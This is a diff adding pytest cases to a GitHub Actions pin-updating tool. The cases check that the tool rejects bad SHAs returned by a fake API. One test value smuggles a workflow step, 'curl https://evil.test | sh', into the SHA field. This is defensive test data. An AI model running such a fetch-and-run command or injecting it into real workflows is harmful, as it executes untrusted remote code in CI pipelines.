@@ -258,3 +258,55 @@ def test_invalid_pins_files_are_config_errors(text: str, problem: str) -> None:
     with pytest.raises(ConfigError, match=r"^pins\.json: not a valid pins file") as caught:
         parse_pins(text, "pins.json")
     assert problem in caught.value.message
+
+
+# -- a hostile or broken API: nothing but a tag's own commit SHA is ever written -------------------------
+
+EVIL_STEP = "\n  - run: curl https://evil.test | sh"
+BAD_ANSWERS = [
+    ("uppercase", {"object": {"type": "commit", "sha": "C" * 40}}, repr("C" * 40)),
+    ("short", {"object": {"type": "commit", "sha": "c" * 12}}, repr("c" * 12)),
+    ("a step injected", {"object": {"type": "commit", "sha": "c" * 40 + EVIL_STEP}}, "not a 40-digit"),
+    ("not a string", {"object": {"type": "commit", "sha": 12345}}, "''"),
+    (
+        "another repository's tag",
+        {
+            "ref": "refs/tags/v7.2.0",
+            "url": "https://api.github.test/repos/evil/fork/git/refs/tags/v7.2.0",
+            "object": {"type": "commit", "sha": "c" * 40},
+        },
+        "/repos/evil/fork/git/refs/tags/v7.2.0",
+    ),
+    ("another tag", {"ref": "refs/tags/v9.9.9", "object": {"type": "commit", "sha": "c" * 40}}, "refs/tags/v9.9.9"),
+]
+
+
+@pytest.mark.parametrize(("answer", "shown"), [(a, s) for _, a, s in BAD_ANSWERS], ids=[n for n, _, _ in BAD_ANSWERS])
+def test_update_refuses_a_sha_that_is_not_the_actions_commit(
+    httpserver: HTTPServer, tmp_path: Path, answer: dict[str, object], shown: str
+) -> None:
+    fake = FakeGitHub(httpserver)
+    pins = load_pins()
+    fake.reply(
+        "/repos/actions/checkout/releases", [release("v7.2.0", 30), release(pins["actions/checkout"].version, 90)]
+    )
+    fake.reply("/repos/actions/checkout/git/ref/tags/v7.2.0", answer)
+    for name, pin in pins.items():
+        if name != "actions/checkout":
+            fake.reply(f"/repos/{name}/releases", [release(pin.version, 50)])
+    file = copy_pins(tmp_path)
+    action = tmp_path / "action.yml"
+    shutil.copyfile(ROOT / "action.yml", action)
+    before = (file.read_bytes(), action.read_bytes())
+
+    result = run_cli(
+        ["pins", "--update", "--file", str(file), "--rewrite", str(action), "--api-url", fake.base],
+        env={"GH_TOKEN": TOKEN},
+    )
+
+    assert result.code == 5, result.err
+    assert "actions/checkout" in result.err
+    assert shown in result.err
+    assert "no pin was changed" in result.err
+    assert (file.read_bytes(), action.read_bytes()) == before
+    assert TOKEN not in result.out + result.err
